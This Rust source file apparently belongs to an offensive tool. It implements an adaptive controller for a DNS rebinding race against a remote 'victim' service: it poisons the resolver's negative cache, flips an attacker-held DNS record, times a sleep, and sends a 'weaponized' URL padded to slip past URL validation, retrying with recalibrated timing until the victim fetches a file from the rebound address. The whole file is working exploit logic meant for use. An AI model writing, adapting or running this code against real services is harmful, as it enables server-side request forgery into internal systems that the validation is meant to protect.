//! Adaptive race controller.
//!
//! One attempt runs `Priming -> Flipping -> Waiting -> Triggering -> Classifying`
//! and ends in success, a calibration miss, or a fatal [`RaceError`]. Misses
//! adjust the sleep and start over with a fresh target; nothing else is retried.

use std::time::Duration;

use log::{info, warn};
use tokio::time::Instant;

use super::calibration::SleepCalibration;
use super::classify::{classify_miss, RaceMiss};
use super::ports::{DnsControl, RemoteFetch};
use super::target::RebindTarget;
use super::url::TargetEndpoint;
use crate::error_handling::{AttemptOutcome, RaceError, RaceStats};
use crate::utils::truncate_for_log;
use crate::victim::FetchResult;

/// Optional bounds on a run. Both unbounded by default.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RaceLimits {
    /// Attempts to start before giving up
    pub max_attempts: Option<u32>,
    /// Wall-clock time after which no new attempt is started
    pub max_duration: Option<Duration>,
}

/// Fixed parameters of a run.
#[derive(Debug, Clone)]
pub struct RaceSettings {
    /// Where the victim is made to connect
    pub endpoint: TargetEndpoint,
    /// Size of the userinfo filler in bytes
    pub payload_size: usize,
    /// Zone suffix appended to each attempt's label
    pub zone_suffix: String,
    pub limits: RaceLimits,
    /// Release each missed attempt's record before the next attempt
    pub release_records: bool,
}

/// Outcome of a successful run.
#[derive(Debug, Clone)]
pub struct RaceReport {
    /// File the victim added from the rebound address
    pub result: FetchResult,
    /// Host of the winning attempt
    pub host: String,
    /// Attempts started, the winning one included
    pub attempts: u32,
    /// Sleep used by the winning attempt
    pub final_sleep: Duration,
    pub stats: RaceStats,
    pub elapsed: Duration,
}

/// How a non-fatal attempt ended.
#[derive(Debug)]
pub enum AttemptResult {
    Success(FetchResult),
    Miss(RaceMiss),
}

/// Drives attempts against a victim and a DNS control plane until one lands.
pub struct RaceController<D, F> {
    dns: D,
    victim: F,
    settings: RaceSettings,
}

impl<D: DnsControl, F: RemoteFetch> RaceController<D, F> {
    pub fn new(dns: D, victim: F, settings: RaceSettings) -> Self {
        Self {
            dns,
            victim,
            settings,
        }
    }

    pub fn dns(&self) -> &D {
        &self.dns
    }

    pub fn victim(&self) -> &F {
        &self.victim
    }

    /// Runs attempts until one succeeds, a fatal condition occurs, or a
    /// configured limit is reached.
    ///
    /// Calibration is threaded through the loop by value: each miss produces
    /// the calibration for the next attempt.
    ///
    /// # Errors
    ///
    /// Every [`RaceError`] variant ends the run immediately.
    pub async fn run_until_success(
        &self,
        initial: SleepCalibration,
    ) -> Result<RaceReport, RaceError> {
        let started = Instant::now();
        let mut calibration = initial;
        let mut stats = RaceStats::new();
        let mut attempts: u32 = 0;

        loop {
            self.check_limits(attempts, started, calibration)?;
            attempts += 1;

            let target = RebindTarget::generate(&self.settings.zone_suffix);
            info!(
                "Attempt {} with sleep duration {:?} on {}",
                attempts,
                calibration.current(),
                target.host()
            );

            match self.run_attempt(&target, calibration).await? {
                AttemptResult::Success(result) => {
                    stats.record(AttemptOutcome::Success);
                    info!(
                        "Race won on attempt {} after {:?}: {} ({})",
                        attempts,
                        calibration.current(),
                        result.file_name,
                        result.file_id
                    );
                    return Ok(RaceReport {
                        result,
                        host: target.host().to_string(),
                        attempts,
                        final_sleep: calibration.current(),
                        stats,
                        elapsed: started.elapsed(),
                    });
                }
                AttemptResult::Miss(miss) => {
                    stats.record(miss.into());
                    let next = calibration.adjusted(miss);
                    warn!(
                        "Attempt {} was {}, sleep {:?} -> {:?}",
                        attempts,
                        AttemptOutcome::from(miss),
                        calibration.current(),
                        next.current()
                    );
                    if self.settings.release_records {
                        self.release(&target).await;
                    }
                    calibration = next;
                }
            }
        }
    }

    /// Runs a single attempt against `target` with the given calibration.
    pub async fn run_attempt(
        &self,
        target: &RebindTarget,
        calibration: SleepCalibration,
    ) -> Result<AttemptResult, RaceError> {
        let endpoint = &self.settings.endpoint;

        // Priming: no record exists yet, so the victim's resolver caches a failure
        let probe_url = endpoint.probe_url(target.host());
        info!("Priming negative cache via {}", probe_url);
        match self.victim.trigger_remote_fetch(&probe_url).await {
            Ok(_) => return Err(RaceError::PrimingSucceeded { url: probe_url }),
            Err(e) if e.is_validation_rejected() => {}
            Err(e) => return Err(RaceError::PrimingFailed(e)),
        }
        let primed_at = Instant::now();

        // Flipping
        info!("Assigning record for {}", target.label());
        self.dns
            .assign_record(target.label())
            .await
            .map_err(|source| RaceError::DnsFlip {
                label: target.label().to_string(),
                source,
            })?;

        // Waiting
        let remaining = calibration.remaining_after(primed_at.elapsed());
        info!("Sleeping for {:?}", remaining);
        if !remaining.is_zero() {
            tokio::time::sleep(remaining).await;
        }

        // Triggering
        let weaponized_url = endpoint.weaponized_url(target.host(), self.settings.payload_size);
        info!("Triggering fetch of {}", truncate_for_log(&weaponized_url));
        let rejection = match self.victim.trigger_remote_fetch(&weaponized_url).await {
            Ok(result) => return Ok(AttemptResult::Success(result)),
            Err(e) if e.is_validation_rejected() => e,
            Err(e) => return Err(RaceError::Trigger(e)),
        };
        log::debug!("Fetch rejected: {}", rejection);

        // Classifying
        let entries = self
            .dns
            .fetch_query_log(target.label())
            .await
            .map_err(|source| RaceError::QueryLog {
                label: target.label().to_string(),
                source,
            })?;
        classify_miss(target.label(), &entries).map(AttemptResult::Miss)
    }

    fn check_limits(
        &self,
        attempts: u32,
        started: Instant,
        calibration: SleepCalibration,
    ) -> Result<(), RaceError> {
        let limits = self.settings.limits;
        if let Some(max) = limits.max_attempts {
            if attempts >= max {
                return Err(RaceError::AttemptsExhausted {
                    attempts,
                    last_sleep: calibration.current(),
                });
            }
        }
        if let Some(max) = limits.max_duration {
            let elapsed = started.elapsed();
            if elapsed >= max {
                return Err(RaceError::DeadlineExceeded {
                    elapsed,
                    attempts,
                    last_sleep: calibration.current(),
                });
            }
        }
        Ok(())
    }

    /// Best-effort release; a failure does not affect the next attempt.
    async fn release(&self, target: &RebindTarget) {
        if let Err(e) = self.dns.release_record(target.label()).await {
            warn!("Cannot release record for {}: {}", target.label(), e);
        }
    }
}
